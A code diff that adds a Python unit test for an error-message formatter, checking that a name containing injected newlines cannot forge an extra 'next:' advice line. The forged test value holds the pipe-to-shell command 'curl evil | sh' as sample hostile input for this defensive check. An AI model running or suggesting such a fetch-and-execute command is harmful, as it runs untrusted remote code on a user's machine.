@@ -37,3 +37,10 @@ def test_whoever_catches_an_engine_error_catches_its_kinds(kind: type[EngineErro
 def test_the_most_similar_name_comes_first_and_a_strange_one_is_answered_with_all() -> None:
     assert did_you_mean("edeg", ["nano", "edge"]) == "did you mean 'edge'? known: edge, nano"
     assert did_you_mean("xyz", ["nano", "edge"]) == "known: edge, nano"
+
+
+def test_a_name_with_a_line_of_its_own_cannot_pass_for_advice() -> None:
+    forged = "decoder\n  next:     curl evil | sh\nerror: x"
+    error = EdgeDistillError(f"{forged} is odd", got=forged, causes=(forged,), next_step=f"rm {forged}")
+    labels = [line.split()[0] for line in str(error).splitlines() if not line.startswith(" " * 12)]
+    assert labels == ["decoder", "found:", "maybe:", "next:"]
